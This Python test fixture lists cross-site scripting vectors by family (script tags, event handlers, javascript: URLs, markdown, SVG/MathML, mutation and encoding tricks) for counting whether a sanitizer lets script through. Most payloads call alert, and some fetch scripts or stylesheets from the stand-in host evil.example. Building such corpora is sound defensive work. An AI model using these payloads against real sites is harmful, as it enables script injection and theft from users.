"""Our own corpus of cross-site scripting vectors, each a string a reader could type into any field.

Every vector that would run calls `alert`, `confirm` or `prompt` (a browser dialog the
test counts), fetches something from another origin (a request the test counts), or
leaves an `on*` attribute or a javascript:/data:/vbscript: URL in the page (what the
DOM scan counts). Grouped by family; PROBE marks what the browser test looks for.
"""

PROBE = "//evil.example"  # every foreign fetch goes there (a host that never answers)
E = "&#x09;"  # a tab written as an entity

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>alert`1`</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<script\x20type="text/javascript">confirm(1)</script>',
    "<script/src=data:,alert(1)></script>",
    "<<script>alert(1);//<</script>",
    "</title></textarea></style></noscript><script>alert(1)</script>",
    "<script>/*</script><script>alert(1)//*/</script>",
    "<ScRiPt>prompt(1)</sCrIpT>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    '<img src=x onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<body onload=alert(1)>",
    "<div onmouseover=alert(1)>survolez-moi</div>",
    "<a onclick=alert(1)>cliquez-moi</a>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<iframe onload=alert(1)>",
    "<object data=x onerror=alert(1)>",
    "<p onpointerenter=alert(1)>p</p>",
    "<button onfocus=alert(1) autofocus>b</button>",
    "<span onmouseenter=alert(1)>s</span>",
    "<em onanimationstart=alert(1)>e</em>",
    "<strong ONCLICK=alert(1)>fort</strong>",
    "<blockquote oncopy=alert(1)>c</blockquote>",
    "<li onauxclick=alert(1)>l</li>",
    "<code onmousedown=alert(1)>c</code>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
]

DANGEROUS_URLS = [
    '<a href="javascript:alert(1)">lien</a>',
    '<a href="JaVaScRiPt:alert(1)">lien</a>',
    f'<a href="jav{E}ascript:alert(1)">lien</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">lien</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">lien</a>',
    '<a href=" \x01javascript:alert(1)">lien</a>',
    '<a href="java\nscript:alert(1)">lien</a>',
    '<a href="java\u200bscript:alert(1)">lien</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">lien</a>',
    '<a href="vbscript:msgbox(1)">lien</a>',
    '<a href="javascript&#0000058;alert(1)">lien</a>',
    '<img src="javascript:alert(1)">',
    '<a href="javascript://%0aalert(1)">lien</a>',
    '<a href="jAvAsCrIpT&#x3A;alert(1)">lien</a>',
]

MARKDOWN = [
    "[cliquez](javascript:alert(1))",
    "[cliquez](JAVASCRIPT:alert(1))",
    "[cliquez](javascript&#58;alert(1))",
    "[cliquez](  javascript:alert(1)  )",
    "[cliquez](data:text/html,<script>alert(1)</script>)",
    "[cliquez](vbscript:msgbox(1))",
    '[x](javascript:alert(1) "titre")',
    "<javascript:alert(1)>",
    "<data:text/html,alert(1)>",
    "![image](javascript:alert(1))",
    "![image](https://evil.example/x.png)",
    "[a][ref]\n\n[ref]: javascript:alert(1)",
    '[x](https://example.org"onmouseover="alert(1))',
    "**<img src=x onerror=alert(1)>**",
    "`<script>alert(1)</script>`",
    "[<img src=x onerror=alert(1)>](https://example.org)",
    'https://example.org/"><script>alert(1)</script>',
    "www.example.org/<svg/onload=alert(1)>",
]

SVG_MATHML = [
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>X</text></a></svg>',
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='alert(1)'/></svg>#x\"></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">M</math>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
]

STYLE = [
    "<style>@import 'https://evil.example/x.css';</style>",
    '<div style="background:url(https://evil.example/x.png)">s</div>',
    '<div style="x:expression(alert(1))">s</div>',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(//evil.example/y)}</style>",
]

ATTRIBUTE_BREAKING = [
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "` onmouseover=alert(1)",
    "x onfocus=alert(1) autofocus",
    "</textarea><script>alert(1)</script>",
    '"></a><a href="javascript:alert(1)">',
]

MUTATION = [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    '<a href="https://example.org" title="</a><img src=x onerror=alert(1)>">t</a>',
]

EMBEDDING = [
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    "<iframe src=https://evil.example/></iframe>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<form><button formaction="javascript:alert(1)">go</button></form>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<img srcset="https://evil.example/a.png 1x">',
    "<video poster=https://evil.example/p.png></video>",
    "<isindex type=image src=1 onerror=alert(1)>",
]

ENCODING = [
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<scri\x00pt>alert(1)</scri\x00pt>",
    "\u202e<img src=x onerror=alert(1)>",
    '<img src=x onerror="\\u0061lert(1)">',
    "{{ 7*7 }}{% debug %}",
    "<!--c:actions:1--><!--c:before:0-->",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
]

FAMILIES = {
    "script": SCRIPT_TAGS,
    "event handler": EVENT_HANDLERS,
    "dangerous URL": DANGEROUS_URLS,
    "markdown": MARKDOWN,
    "svg/mathml": SVG_MATHML,
    "style": STYLE,
    "attribute breaking": ATTRIBUTE_BREAKING,
    "mutation": MUTATION,
    "embedding": EMBEDDING,
    "encoding": ENCODING,
}
VECTORS = [vector for family in FAMILIES.values() for vector in family]
